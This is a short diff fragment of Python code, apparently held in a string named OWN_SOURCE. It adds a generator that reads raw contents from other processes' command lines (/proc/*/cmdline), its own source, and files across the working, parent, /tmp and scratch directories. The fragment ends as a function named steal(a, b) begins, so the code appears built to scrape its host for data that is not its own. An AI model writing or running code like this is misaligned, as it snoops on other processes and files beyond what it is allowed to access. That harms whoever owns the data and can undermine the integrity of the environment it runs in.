@@ -119,7 +119,7 @@ OWN_SOURCE = (
 import glob, sys
 def texts():
     for path in [*sys.argv, __file__ if "__file__" in globals() else "", *glob.glob("/proc/*/cmdline"),
-                 *glob.glob("*"), *glob.glob("../*"), *glob.glob("/tmp/*"), *glob.glob("/work/*")]:
+                 *glob.glob("*"), *glob.glob("../*"), *glob.glob("/tmp/*"), *glob.glob("/scratch/*")]:
         try: yield open(path, "rb").read(1 << 20)
         except (OSError, ValueError): pass
 def steal(a, b):
